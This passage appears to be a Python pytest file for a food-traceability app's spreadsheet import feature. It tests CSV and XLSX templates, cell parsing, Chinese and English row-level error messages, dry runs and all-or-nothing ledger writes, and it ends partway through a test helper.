"""Spreadsheet import: templates, reading CSV and XLSX, row-level errors, all-or-nothing writes."""

from __future__ import annotations

import csv
import io
import random
import zipfile
from datetime import date, datetime, timedelta, timezone
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from conftest import data_fixture
from enterprise_portal import imports_api
from foodtrace import imports
from foodtrace.accounts.service import Role, add_user
from foodtrace.db import read_session, write_session
from foodtrace.imports import IMPORTABLE, columns, parse, run_import, template_csv, template_xlsx
from foodtrace.records.projection import DbStore
from foodtrace.verify import verify_ledger
from schemas.records import RECORD_SCHEMAS, RecordKind

import factories as f
from snapshots import snapshot

PASSWORD = "correct horse 42"
CST = timezone(timedelta(hours=8))
PATHS = {kind: path for path, kind in imports_api.KINDS.items()}
NESTED = {
    RecordKind.PRODUCTION_LOT: "materials",
    RecordKind.RELEASE_TEST: "items",
    RecordKind.SELF_INSPECTION: "items",
}


# ---------------------------------------------------------------- helpers


def _flatten(prefix: str, value: dict[str, Any]) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for k, v in value.items():
        if v is None:
            continue
        if isinstance(v, dict):
            out.update(_flatten(f"{prefix}{k}.", v))
        else:
            out[f"{prefix}{k}"] = v
    return out


def rows_for(kind: RecordKind, data: dict[str, Any]) -> list[dict[str, Any]]:
    """A record as spreadsheet rows keyed by column key: one row per item of a nested record,
    the record-level cells on its first row only."""
    items = NESTED.get(kind)
    top = {k: v for k, v in data.items() if k != items and v is not None}
    if not items:
        return [top]
    rows = []
    for i, item in enumerate(data[items]):
        row = dict(top) if i == 0 else {}
        row.update(_flatten(f"{items}.", item))
        rows.append(row)
    return rows


def _label(col: imports.Column, value: Any) -> str:
    wanted = str(value).lower() if isinstance(value, bool) else value
    return next(label for v, label in col.choices if v == wanted)


def typed_cell(col: imports.Column, value: Any) -> Any:
    """The value as a user's Excel would hold it: real dates, times and numbers, Chinese labels."""
    if col.type == imports.DATE:
        return date.fromisoformat(value)
    if col.type == imports.INSTANT:
        return datetime.fromisoformat(value).astimezone(CST).replace(tzinfo=None)
    if col.type == imports.DECIMAL:
        return float(value) if "." in value else int(value)
    if col.type == imports.DECIMALS:
        return "/".join(value)
    if col.type in (imports.BOOL, imports.ENUM):
        return _label(col, value)
    return value


def text_cell(col: imports.Column, value: Any) -> str:
    if col.type == imports.INSTANT:
        return typed_cell(col, value).strftime("%Y-%m-%d %H:%M")
    if col.type in (imports.BOOL, imports.ENUM, imports.DECIMALS):
        return str(typed_cell(col, value))
    return str(value)


def xlsx_file(kind: RecordKind, rows: list[dict[str, Any]], *, keep_example: bool = True) -> bytes:
    """The XLSX template filled with ``rows`` below the example row (or in its place)."""
    wb = load_workbook(io.BytesIO(template_xlsx(kind)))
    ws = wb.worksheets[0]
    cols = columns(kind)
    if not keep_example:
        ws.delete_rows(2)
    start = ws.max_row + 1
    for i, row in enumerate(rows):
        for j, col in enumerate(cols, start=1):
            if col.key in row:
                ws.cell(row=start + i, column=j, value=typed_cell(col, row[col.key]))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def csv_file(kind: RecordKind, rows: list[dict[str, Any]], encoding: str = "utf-8-sig") -> bytes:
    cols = columns(kind)
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\r\n")
    w.writerow([c.header_zh for c in cols])
    for row in rows:
        w.writerow([text_cell(c, row[c.key]) if c.key in row else "" for c in cols])
    return out.getvalue().encode(encoding)


def records_file(kind: RecordKind, records: list[dict[str, Any]], **kw: Any) -> bytes:
    return xlsx_file(kind, [r for rec in records for r in rows_for(kind, rec)], **kw)


def do_import(
    engine, clock, ledger_id: int, kind: RecordKind, filename: str, content: bytes, **kw: Any
) -> imports.ImportResult:
    """Parse and import in one write transaction, as a route does."""
    with write_session(engine) as session:
        return run_import(
            session=session,
            ledger_id=ledger_id,
            kind=kind,
            parsed=parse(kind, filename, content),
            actor="qa",
            clock=clock,
            dry_run=kw.pop("dry_run", False),
            **kw,
        )


def errors_of(result: imports.ImportResult | imports.Parsed) -> list[tuple[int, str]]:
    return [(e.row, e.column) for e in result.errors]


# ---------------------------------------------------------------- web fixtures


@data_fixture
def world(engine, clock):
    """The beverage maker (with its product recorded) and its operator; a platform admin."""
    lid = f.register(engine, clock, f.BEVERAGE)
    f.add(engine, clock, lid, "product", f.product())
    with write_session(engine) as s:
        for name, role, ent in (
            ("a_op", Role.ENTERPRISE_USER, f.BEVERAGE),
            ("root", Role.PLATFORM_ADMIN, None),
        ):
            add_user(
                session=s,
                username=name,
                password=PASSWORD,
                role=role,
                now=clock.now(),
                enterprise_credit_code=ent,
            )
    return lid


def login(client: TestClient, username: str = "a_op") -> dict[str, str]:
    r = client.post("/api/v1/auth/token", data={"username": username, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def upload(client, h, kind: RecordKind, content: bytes, *, dry_run: bool, name: str = "t.xlsx"):
    return client.post(
        f"/api/v1/imports/{PATHS[kind]}",
        params={"dry_run": str(dry_run).lower()},
        files={"file": (name, content, "application/octet-stream")},
        headers=h,
    )


# ---------------------------------------------------------------- templates


@pytest.mark.parametrize("kind", IMPORTABLE)
def test_template_columns_follow_the_schema(kind: RecordKind) -> None:
    cols = columns(kind)
    names: dict[str, str] = {}
    for c in cols:
        for name in (c.header_zh, c.header_en, c.key):
            assert names.setdefault(name, c.key) == c.key, f"{name} names two columns"
    schema = RECORD_SCHEMAS[kind]
    items = NESTED.get(kind)
    by_key = {c.key: c for c in cols}
    for name, fld in schema.model_fields.items():
        if name == items:
            item_model = fld.annotation.__args__[0]  # list[Item]
            for sub, sub_fld in item_model.model_fields.items():
                if sub == "sampling":
                    continue
                assert by_key[f"{items}.{sub}"].required == sub_fld.is_required(), sub
        elif name not in ("attachments", "event_time"):
            assert name in by_key, f"{kind}: no column for {name}"
            assert by_key[name].required == fld.is_required(), name


@pytest.mark.parametrize("kind", IMPORTABLE)
def test_templates_open_and_their_example_row_is_skipped(kind: RecordKind) -> None:
    cols = columns(kind)
    raw = template_csv(kind)
    assert raw.startswith(b"\xef\xbb\xbf")
    header, example = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert header == [c.header_zh for c in cols]
    assert example == [c.example for c in cols]

    wb = load_workbook(io.BytesIO(template_xlsx(kind)))
    ws, notes = wb.worksheets
    assert ws.title == imports.title(kind)
    assert notes.title == "说明"
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == [c.header_zh for c in cols]
    assert all(c.font.b for c in ws[1])
    assert ws.column_dimensions["A"].width >= 8
    choice_cols = [c for c in cols if c.choices]
    assert len(ws.data_validations.dataValidation) == len(choice_cols)
    described = {row[0]: row[2] for row in notes.iter_rows(values_only=True) if len(row) > 2}
    for c in cols:
        assert described[c.header_zh] == ("是" if c.required else "否")

    for name, content in (("t.csv", raw), ("t.xlsx", template_xlsx(kind))):
        parsed = parse(kind, name, content)
        assert parsed.skipped == [2]
        assert parsed.records == []
        assert errors_of(parsed) == [(2, "")]  # "no data rows"


def test_template_routes_need_an_enterprise_user_and_name_the_file(client, world) -> None:
    assert client.get("/api/v1/templates/sales.xlsx").status_code == 401
    assert (
        client.get("/api/v1/templates/sales.csv", headers=login(client, "root")).status_code == 403
    )
    h = login(client)
    r = client.get("/api/v1/templates/sales.xlsx", headers=h)
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert f"filename*=UTF-8''{quote('销售台账模板.xlsx')}" in r.headers["content-disposition"]
    assert load_workbook(io.BytesIO(r.content)).worksheets[0].title == "销售台账"
    r = client.get("/api/v1/templates/production-lots.csv", headers=h)
    assert r.status_code == 200
    assert r.content.decode("utf-8-sig").startswith("产品编码,生产批号")
    for kind in IMPORTABLE:
        assert client.get(f"/api/v1/templates/{PATHS[kind]}.csv", headers=h).status_code == 200
    assert client.get("/api/v1/templates/products.csv", headers=h).status_code == 422


def test_every_import_route_needs_credentials(client, world) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    mine = {
        p: ops for p, ops in paths.items() if p.startswith(("/api/v1/templates", "/api/v1/imports"))
    }
    assert len(mine) == 3
    for path, ops in mine.items():
        for method in ops:
            for url in (path, path.replace("{kind}", "sales")):
                r = client.request(method.upper(), url)
                assert r.status_code == 401, (method, url, r.status_code)
                assert r.headers["www-authenticate"] == "Bearer"


# ---------------------------------------------------------------- reading cells


def test_excel_cells_become_exact_decimal_strings_dates_and_cst_instants() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(["生产批号", "关键控制点", "监控参数", "测量值", "单位", "监控时间", "监控人"])
    rows = [
        ("PJ1", "CCP1", "temperature", 12.1, "°C", datetime(2026, 3, 1, 8, 29, 59, 999_999)),
        ("PJ1", "CCP1", "temperature", 0.1 + 0.2, "°C", datetime(2026, 3, 1, 9, 0)),
        ("PJ1", "CCP1", "temperature", 2000.0, "°C", "2026/3/1 9:30"),
        (20260301, "CCP1", "temperature", 86, "°C", "2026-03-01T02:00:00Z"),
        ("PJ1", "CCP1", "temperature", "86,5", "°C", date(2026, 3, 1)),
    ]
    for r in rows:
        ws.append([*r, "李强"])
    ws["F2"].number_format = ws["F3"].number_format = "yyyy-mm-dd hh:mm"
    ws["F6"].number_format = "yyyy-mm-dd"
    buf = io.BytesIO()
    wb.save(buf)
    parsed = parse(RecordKind.CCP_RECORD, "readings.xlsx", buf.getvalue())
    got = [
        (r.rows, r.data["lot_code"], r.data["value"], r.data["measured_at"]) for r in parsed.records
    ]
    assert got == [
        ([2], "PJ1", "12.1", "2026-03-01T08:30:00+08:00"),
        ([3], "PJ1", "0.3", "2026-03-01T09:00:00+08:00"),
        ([4], "PJ1", "2000", "2026-03-01T09:30:00+08:00"),
        ([5], "20260301", "86", "2026-03-01T02:00:00+00:00"),
    ]
    assert [(e.row, e.column) for e in parsed.errors] == [(6, "测量值"), (6, "监控时间")]
    assert "不是数字" in parsed.errors[0].message
    assert "只有日期" in parsed.errors[1].message


def test_date_cells_and_written_dates_enums_and_booleans() -> None:
    wb = Workbook()
    ws = wb.active
    headers = [c.header_zh for c in columns(RecordKind.MATERIAL_CHECK)]
    ws.append(headers)
    base = f.material_check()
    values = {
        **base,
        "material_type": "原料",
        "production_date": date(2026, 2, 20),
        "receipt_date": datetime(2026, 3, 1),
        "supplier_licence_checked": "是",
        "accepted": "合格",
        "quantity": 2000,
    }
    ws.append([values.get(c.key) for c in columns(RecordKind.MATERIAL_CHECK)])
    ws["J2"].number_format = "yyyy/m/d"
    texts = {**values, "production_date": "2026年2月20日", "receipt_date": "2026-03-01 00:00:00"}
    texts |= {
        "material_type": "食品添加剂",
        "accepted": "不合格",
        "supplier_licence_checked": "yes",
    }
    ws.append([texts.get(c.key) for c in columns(RecordKind.MATERIAL_CHECK)])
    ws.cell(row=3, column=1, value="ML-2")
    buf = io.BytesIO()
    wb.save(buf)
    parsed = parse(RecordKind.MATERIAL_CHECK, "m.xlsx", buf.getvalue())
    assert parsed.errors == []
    first, second = (r.data for r in parsed.records)
    assert first == {**base, "quantity": "2000"}
    assert second["production_date"] == "2026-02-20"
    assert second["receipt_date"] == "2026-03-01"
    assert (second["material_type"], second["accepted"]) == ("food_additive", False)
    assert second["supplier_licence_checked"] is True


def test_unknown_and_missing_columns_are_reported_by_their_headers() -> None:
    content = "生产批号, 数量 ,单位,颜色,Customer code\nPJ1,5,箱,红,DIST01\n".encode()
    parsed = parse(RecordKind.SALE, "sales.csv", content)
    assert parsed.records == []
    assert [(e.row, e.column) for e in parsed.errors] == [(1, "颜色"), (1, "销售日期")]
    assert "无法识别的列" in parsed.errors[0].message
    assert "缺少必填列" in parsed.errors[1].message
    dup = parse(RecordKind.SALE, "s.csv", "生产批号,Lot code\n".encode())
    assert any("重复" in e.message for e in dup.errors)
    assert parse(RecordKind.SALE, "s.xls", b"\xd0\xcf\x11\xe0rest").errors[0].row == 0
    assert "XLSX" in parse(RecordKind.SALE, "s.xlsx", b"PK\x03\x04broken").errors[0].message


def test_title_rows_merged_cells_and_row_grouping() -> None:
    cols = {c.key: c.header_zh for c in columns(RecordKind.PRODUCTION_LOT)}
    lot = ["PJ500", "L1", "2026-03-01", "2026-03-01 08:00", "2026-03-01 11:00", "400", "箱"]
    lines = [
        ["石榴汁饮料生产投料记录"],
        [cols[k] for k in cols if k != "notes"],
        [*lot, "ML-1", "300", "kg"],
        ["", "", "", "", "", "", "", "ML-2", "1.5", "kg"],  # a merged cell reads empty
        ["PJ500", "L1", "", "", "", "", "", "ML-3", "2", "kg"],  # same lot, repeated code
        ["PJ500", "L2", "2026-03-01", "2026-03-01 12:00", "2026-03-01 13:00", "10", "箱"]
        + ["ML-1", "3", "kg"],
        [*lot, "ML-4", "3", "kg"],  # L1 again, not adjacent
        ["PJ500", "L3", "2026-03-01", "2026-03-01 12:00", "2026-03-01 13:00", "10", "箱"]
        + ["ML-1", "3", "kg"],
        ["", "", "2026-03-02", "", "", "", "", "ML-2", "3", "kg"],  # changes the date
    ]
    content = "\n".join(",".join(line) for line in lines).encode()
    parsed = parse(RecordKind.PRODUCTION_LOT, "lots.csv", content)
    assert [r.rows for r in parsed.records] == [[3, 4, 5], [6]]
    first = parsed.records[0].data
    assert [m["material_lot"] for m in first["materials"]] == ["ML-1", "ML-2", "ML-3"]
    assert first["materials"][1] == {"material_lot": "ML-2", "quantity": "1.5", "unit": "kg"}
    assert errors_of(parsed) == [(7, "生产批号"), (9, "生产日期")]


# ---------------------------------------------------------------- importing


def test_every_template_round_trips_through_the_api(client, world, engine) -> None:
    """A beverage maker fills every template in Excel and imports it; the ledger verifies."""
    h = login(client)
    additive = f.material_check(
        material_lot="ML-0301-02",
        material_name="柠檬酸",
        material_type="food_additive",
        specification="25 kg/袋",
        quantity="12.1",
        batch_no="CA20260210",
        production_date="2026-02-10",
        certificate_no="HG-20260301-08",
    )
    lot = f.production_lot(
        materials=[
            {"material_lot": "ML-0301-01", "quantity": "300", "unit": "kg"},
            {"material_lot": "ML-0301-02", "quantity": "1.5", "unit": "kg"},
        ]
    )
    readings = [
        f.ccp_record(),
        f.ccp_record(parameter="holding_time", value="16", unit="s"),
        f.ccp_record(value="83.5", measured_at="2026-03-01T09:00:00+08:00"),
        {**f.ccp_record(ccp="CCP2", parameter="seal", result="pass"), "value": None, "unit": None},
    ]
    test = f.release_test()
    test["items"][0]["sampling"] = {
        "n": 5,
        "c": 2,
        "m": "100",
        "M": "1000",
        "results": ["10", "20", "10", "30", "10"],
    }
    steps = [
        (RecordKind.SUPPLIER, [f.supplier()]),
        (RecordKind.CUSTOMER, [f.customer()]),
        (RecordKind.MATERIAL_CHECK, [f.material_check(), additive]),
        (RecordKind.PRODUCTION_LOT, [lot]),
        (RecordKind.CCP_RECORD, readings),
        (RecordKind.CORRECTIVE_ACTION, None),  # needs the deviation's seq
        (RecordKind.RELEASE_TEST, [test]),
        (RecordKind.SALE, [f.sale(), f.sale(quantity="20", sale_date="2026-03-02")]),
        (RecordKind.SELF_INSPECTION, [f.self_inspection()]),
    ]
    assert [k for k, _ in steps] == list(IMPORTABLE)
    seqs: dict[RecordKind, list[int]] = {}
    for kind, recs in steps:
        if recs is None:
            deviation = seqs[RecordKind.CCP_RECORD][2]
            recs = [
                {
                    "reading_seq": deviation,
                    "action": "重新杀菌，复测 86.2 °C",
                    "taken_at": "2026-03-01T09:15:00+08:00",
                    "operator": "李强",
                }
            ]
        content = records_file(kind, recs)
        check = upload(client, h, kind, content, dry_run=True)
        assert check.status_code == 200, check.text
        assert check.json()["ok"] is True, (kind, check.json()["errors"])
        assert check.json()["skipped_rows"] == [2]
        assert check.json()["written"] == 0
        done = upload(client, h, kind, content, dry_run=False)
        assert done.status_code == 201, (kind, done.text)
        body = done.json()
        assert body["written"] == len(recs) == body["records"]
        seqs[kind] = list(range(body["first_seq"], body["last_seq"] + 1))
    lot_view = client.get("/api/v1/lots/PJ20260301A", headers=h).json()
    assert [(m["code"], m["used_quantity"]) for m in lot_view["materials"]] == [
        ("ML-0301-01", "300"),
        ("ML-0301-02", "1.5"),
    ]
    assert len(lot_view["ccp_readings"]) == 4
    assert lot_view["open_deviations"] == 0
    assert [s["quantity"] for s in lot_view["sales"]] == ["100", "20"]
    assert lot_view["release_tests"][0]["conclusion"] == "pass"
    entry = client.get(f"/api/v1/ledger/entries/{seqs[RecordKind.MATERIAL_CHECK][1]}", headers=h)
    assert entry.json()["body"]["quantity"] == "12.1"  # a float cell, no artefact
    entry = client.get(f"/api/v1/ledger/entries/{seqs[RecordKind.RELEASE_TEST][0]}", headers=h)
    assert entry.json()["body"]["items"][0]["sampling"]["results"] == ["10", "20", "10", "30", "10"]
    v = client.get("/api/v1/ledger/verify", headers=h).json()
    assert v["ok"] is True
    # the records, and the public declaration the passing release test made due
    assert v["size"] == 2 + 1 + 1 + 2 + 1 + 4 + 1 + 1 + 2 + 1 + 1


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_csv_in_utf8_with_bom_and_in_gb18030(engine, clock, encoding: str) -> None:
    lid = f.register(engine, clock)
    suppliers = [
        f.supplier(),
        f.supplier(code="ACID01", name="潍坊英轩实业有限公司", credit_code=None, licence_no=None),
    ]
    rows = [r for s in suppliers for r in rows_for(RecordKind.SUPPLIER, s)]
    content = csv_file(RecordKind.SUPPLIER, rows, encoding)
    if encoding == "gb18030":
        with pytest.raises(UnicodeDecodeError):
            content.decode("utf-8")
    result = do_import(engine, clock, lid, RecordKind.SUPPLIER, "供应商.csv", content)
    assert result.errors == []
    assert result.written == 2
    with read_session(engine) as s:
        names = [r["name"] for r in DbStore(s, lid).find("suppliers")]
    assert sorted(names) == sorted(x["name"] for x in suppliers)


def test_a_bad_row_rejects_the_file_and_the_fixed_file_imports(client, engine, clock) -> None:
    lid = f.beverage_ledger(engine, clock)
    with write_session(engine) as s:
        add_user(
            session=s,
            username="a_op",
            password=PASSWORD,
            role=Role.ENTERPRISE_USER,
            now=clock.now(),
            enterprise_credit_code=f.BEVERAGE,
        )
    h = login(client)
    sales = [
        f.sale(quantity=str(q), document_no=f"CK-{i}") for i, q in enumerate([5, 6, 7, 8, 9, 10])
    ]
    sales[2]["quantity"] = "-3"  # row 4
    sales[4]["lot_code"] = "PJ-NOPE"  # row 6
    before = snapshot(engine)
    bad = upload(
        client,
        h,
        RecordKind.SALE,
        records_file(RecordKind.SALE, sales, keep_example=False),
        dry_run=False,
    )
    assert bad.status_code == 422, bad.text
    body = bad.json()
    assert [(e["row"], e["column"]) for e in body["errors"]] == [(4, "数量"), (6, "生产批号")]
    assert "greater than zero" in body["errors"][0]["message"]
    assert "PJ-NOPE" in body["errors"][1]["message"]
    assert body["written"] == 0
    assert body["first_seq"] is None
    assert body["checked"] == 4
    assert snapshot(engine) == before

    sales[2]["quantity"] = "7"
    sales[4]["lot_code"] = "PJ20260301A"
    good = upload(
        client,
        h,
        RecordKind.SALE,
        records_file(RecordKind.SALE, sales, keep_example=False),
        dry_run=False,
    )
    assert good.status_code == 201, good.text
    assert (good.json()["first_seq"], good.json()["last_seq"]) == (11, 16)
    with read_session(engine) as s:
        assert verify_ledger(session=s, ledger_id=lid).ok


def test_dry_run_writes_nothing(client, world, engine) -> None:
    h = login(client)
    content = records_file(RecordKind.SUPPLIER, [f.supplier(), f.supplier(code="S2")])
    before = snapshot(engine)
    r = upload(client, h, RecordKind.SUPPLIER, content, dry_run=True)
    assert r.status_code == 200
    assert (r.json()["ok"], r.json()["checked"], r.json()["written"]) == (True, 2, 0)
    assert snapshot(engine) == before
    # a dry run of a bad file is still 200, with the errors
    r = upload(client, h, RecordKind.SUPPLIER, b"\x89PNG\r\n", dry_run=True, name="x.png")
    assert r.status_code == 200
    assert r.json()["ok"] is False
    assert snapshot(engine) == before


def with_settings(client, **changes: Any) -> None:
    """Change the running app's settings (those read per request)."""
    state = client.app.state
    state.settings = state.settings.model_copy(update=changes)


def test_upload_size_limit(client, world) -> None:
    with_settings(client, import_max_bytes=1000)
    r = upload(client, login(client), RecordKind.SALE, b"x" * 1001, dry_run=True, name="s.csv")
    assert r.status_code == 413
    assert "MB" in r.json()["detail"]


def test_problems_in_a_nested_record_point_at_the_row_of_the_item(engine, clock) -> None:
    lid = f.register(engine, clock)
    for kind, data in (
        ("supplier", f.supplier()),
        ("product", f.product()),
        ("material_check", f.material_check()),
        ("material_check", f.material_check(material_lot="ML-2", unit="袋")),
    ):
        f.add(engine, clock, lid, kind, data)
    lots = [
        f.production_lot(
            materials=[
                {"material_lot": "ML-0301-01", "quantity": "300", "unit": "kg"},
                {"material_lot": "ML-2", "quantity": "2", "unit": "kg"},  # unit mismatch
            ]
        ),
        f.production_lot(
            lot_code="PJ2",
            materials=[
                {"material_lot": "ML-0301-01", "quantity": "3", "unit": "kg"},
                {"material_lot": "ML-2", "quantity": "-2", "unit": "袋"},  # schema: quantity
                {"material_lot": "ML-9", "quantity": "1", "unit": "kg"},
            ],
        ),
        f.production_lot(
            lot_code="PJ3",
            ended_at="2026-03-01T07:00:00+08:00",  # before it started
            materials=[{"material_lot": "ML-0301-01", "quantity": "3", "unit": "kg"}],
        ),
    ]
    content = records_file(RecordKind.PRODUCTION_LOT, lots, keep_example=False)
    result = do_import(engine, clock, lid, RecordKind.PRODUCTION_LOT, "lots.xlsx", content)
    # row 6's unknown material lot too: the bad quantity above it in its record hid it
    assert errors_of(result) == [(3, "单位"), (5, "数量"), (6, "物料批次编码"), (7, "结束时间")]
    assert "ML-9" in result.errors[2].message_zh
    assert result.written == 0
    # the good part alone imports, two materials in one lot
    good = f.production_lot(
        materials=[
            {"material_lot": "ML-0301-01", "quantity": "300", "unit": "kg"},
            {"material_lot": "ML-2", "quantity": "2", "unit": "袋"},
        ]
    )
    content = records_file(RecordKind.PRODUCTION_LOT, [good])
    result = do_import(engine, clock, lid, RecordKind.PRODUCTION_LOT, "lots.xlsx", content)
    assert (result.errors, result.written) == ([], 1)
    with read_session(engine) as s:
        inputs = DbStore(s, lid).find("lot_inputs", record_seq=result.first_seq)
    assert sorted((r["line"], r["quantity"], r["unit"]) for r in inputs) == [
        (0, "300", "kg"),
        (1, "2", "袋"),
    ]


def test_later_rows_are_checked_against_the_rows_above(engine, clock, monkeypatch) -> None:
    """Chunks of 3: refused rows roll back their chunk, the rows before are replayed."""
    monkeypatch.setattr(imports, "CHUNK", 3)
    lid = f.beverage_ledger(engine, clock)  # lot PJ20260301A: 400 箱, sold 100
    sales = [f.sale(quantity="40", document_no=f"CK-{i}") for i in range(10)]
    sales[1]["customer_code"] = "NOBODY"  # row 3
    sales[2]["lot_code"] = "NOPE"  # row 4
    sales[7]["unit"] = "吨"  # row 9
    calls: list[tuple[int, int]] = []
    content = records_file(RecordKind.SALE, sales, keep_example=False)
    before = snapshot(engine)
    result = do_import(
        engine, clock, lid, RecordKind.SALE, "s.xlsx", content, progress=lambda *a: calls.append(a)
    )
    assert errors_of(result) == [(3, "客户编码"), (4, "生产批号"), (9, "单位")]
    assert result.checked == 7
    assert result.written == 0
    # 100 + 7 x 40 = 380 of 400: no mass-balance warning; the release test passed
    assert result.warnings == []
    assert calls == [(6, 10), (10, 10)]
    assert snapshot(engine) == before

    more = [f.sale(quantity="250", document_no=f"CK-{i}") for i in range(3)]
    content = records_file(RecordKind.SALE, more)
    result = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content)
    assert result.errors == []
    assert result.written == 3
    # the second sale exceeds what was produced, given the first one in the same file
    assert [(w.row, w.column) for w in result.warnings] == [(4, "数量"), (5, "数量")]
    assert "mass balance" in result.warnings[0].message


def test_a_duplicate_in_the_file_is_refused_on_its_own_row(engine, clock) -> None:
    lid = f.register(engine, clock)
    content = records_file(
        RecordKind.CUSTOMER, [f.customer(), f.customer(code="C2"), f.customer()], keep_example=False
    )
    result = do_import(engine, clock, lid, RecordKind.CUSTOMER, "c.xlsx", content)
    assert errors_of(result) == [(4, "客户编码")]
    # the other row of the file, not the seq the first one took (never written)
    (dup,) = result.errors
    assert (dup.type, dup.ctx["row"], dup.key) == ("duplicate_in_file", 2, "code")
    assert dup.message_zh == "“DIST01”与本文件第 2 行重复：删去其中一行，或改用另一个客户编码"
    assert "repeats row 2 of this file" in dup.message_en
    assert "条" not in dup.message_zh
    assert "entry" not in dup.message_en
    dry = do_import(
        engine,
        clock,
        lid,
        RecordKind.CUSTOMER,
        "c.xlsx",
        records_file(RecordKind.CUSTOMER, [f.customer()]),
        dry_run=True,
    )
    assert (dry.errors, dry.checked, dry.written, dry.first_seq) == ([], 1, 0, None)
    with read_session(engine) as s:
        assert DbStore(s, lid).find("customers") == []


def test_a_sale_before_the_release_test_is_imported_with_a_warning(engine, clock) -> None:
    lid = f.register(engine, clock)
    for kind, data in (
        ("supplier", f.supplier()),
        ("customer", f.customer()),
        ("product", f.product()),
        ("material_check", f.material_check()),
        ("production_lot", f.production_lot()),
    ):
        f.add(engine, clock, lid, kind, data)
    content = records_file(RecordKind.SALE, [f.sale()], keep_example=False)
    result = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content)
    assert result.errors == []
    assert result.written == 1
    assert [(w.row, w.column) for w in result.warnings] == [(2, "生产批号")]
    assert "Art. 52" in result.warnings[0].message


def test_the_core_names_what_is_missing(engine, clock) -> None:
    """A measured CCP parameter given as pass/fail: the core's own message, on the value column."""
    lid = f.beverage_ledger(engine, clock)
    reading = {**f.ccp_record(result="pass"), "value": None, "unit": None}
    content = records_file(RecordKind.CCP_RECORD, [reading], keep_example=False)
    result = do_import(engine, clock, lid, RecordKind.CCP_RECORD, "c.xlsx", content)
    assert errors_of(result) == [(2, "测量值")]
    assert "give value and unit" in result.errors[0].message


def test_written_dates_in_a_csv() -> None:
    lines = ["生产批号,数量,单位,销售日期,客户编码"]
    for written in ("20260301", "2026/3/1", "2026.03.01", "2026-03-01 17:45", "2026-03-01T01:00Z"):
        lines.append(f"PJ1,1,箱,{written},DIST01")
    parsed = parse(RecordKind.SALE, "s.csv", "\n".join(lines).encode())
    assert [r.data["sale_date"] for r in parsed.records] == ["2026-03-01"] * 4
    assert errors_of(parsed) == [(6, "销售日期")]  # an instant in UTC: its local date is not "01"


def test_deferred_head_moves_keep_the_ledger_whole(engine, clock, monkeypatch) -> None:
    """The head row moves once per chunk; refused chunks and dry runs leave it matching."""
    from foodtrace.ledger.models import Ledger
    from foodtrace.verify import verify_ledger

    monkeypatch.setattr(imports, "CHUNK", 4)
    lid = f.beverage_ledger(engine, clock)  # 10 entries
    sales = [f.sale(quantity="1", document_no=f"CK-{i}") for i in range(11)]
    bad = [dict(s) for s in sales]
    bad[6]["quantity"] = "0.0000001"  # 7 decimals: refused by the schema
    bad[9]["lot_code"] = "NOPE"  # refused by the core, in the third chunk
    for content, dry_run in (
        (records_file(RecordKind.SALE, bad, keep_example=False), False),
        (records_file(RecordKind.SALE, sales, keep_example=False), True),
    ):
        result = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content, dry_run=dry_run)
        assert result.written == 0
        with write_session(engine) as s:
            assert s.get(Ledger, lid).size == 10
            assert verify_ledger(session=s, ledger_id=lid).ok
    result = do_import(
        engine,
        clock,
        lid,
        RecordKind.SALE,
        "s.xlsx",
        records_file(RecordKind.SALE, sales, keep_example=False),
    )
    assert (result.written, result.first_seq, result.last_seq) == (11, 11, 21)
    f.add(engine, clock, lid, "customer", f.customer(code="AFTER"))  # the next append follows
    with write_session(engine) as s:
        assert s.get(Ledger, lid).size == 22
        report = verify_ledger(session=s, ledger_id=lid)
        assert report.ok, report.problems[:3]


def test_the_collector_is_paused_during_an_import_and_resumed_after(
    engine, clock, monkeypatch
) -> None:
    """bulk.no_cycle_collection around run_import: paused while rows are built, and on
    again after, whether the import wrote or refused its file."""
    import gc

    monkeypatch.setattr(imports, "CHUNK", 3)
    lid = f.beverage_ledger(engine, clock)
    seen: list[bool] = []
    good = records_file(RecordKind.SALE, [f.sale(quantity="1", document_no=f"GC-{i}")
                                          for i in range(4)], keep_example=False)  # fmt: skip
    bad = records_file(RecordKind.SALE, [f.sale(lot_code="NOPE")], keep_example=False)
    for content in (good, bad):
        do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content,
                  progress=lambda *a: seen.append(gc.isenabled()))  # fmt: skip
        assert gc.isenabled()
    assert seen
    assert not any(seen)


# ------------------------------------------- every problem at once, marked, previewed


SALE_MISTAKES = {
    # column key: what a user gets wrong in it, and the words of what to do
    "lot_code": [("PJ-NOPE", "请先录入该批次的生产记录")],
    "quantity": [("abc", "不是数字"), ("-3", "")],
    "unit": [("吨", "")],
    "sale_date": [("2026-13-45", "不是有效日期")],
    "customer_code": [("NOBODY", "客户“NOBODY”不存在：请先在客户名录中登记该客户")],
}


def _mistaken_sales(seed: int) -> tuple[bytes, dict[tuple[int, str], str]]:
    """Twelve sales with mistakes in random cells of random rows (several in some rows):
    the file, and each mistaken cell (row, header) with the words its message must hold.

    A lot that does not exist leaves the unit unjudged (the unit is the lot's product's),
    so a row with a wrong lot has no wrong unit."""
    rng = random.Random(seed)
    cols = columns(RecordKind.SALE)
    sales = [f.sale(quantity=str(rng.randint(1, 5)), document_no=f"CK-{i}") for i in range(12)]
    content = records_file(RecordKind.SALE, sales, keep_example=False)
    wb = load_workbook(io.BytesIO(content))
    ws = wb.worksheets[0]
    expected: dict[tuple[int, str], str] = {}
    for row in rng.sample(range(2, 14), 7):
        keys = rng.sample(sorted(SALE_MISTAKES), rng.randint(1, 4))
        if "lot_code" in keys and "unit" in keys:
            keys.remove("unit")
        for key in keys:
            value, words = rng.choice(SALE_MISTAKES[key])
            j = next(j for j, c in enumerate(cols, start=1) if c.key == key)
            ws.cell(row=row, column=j, value=value)
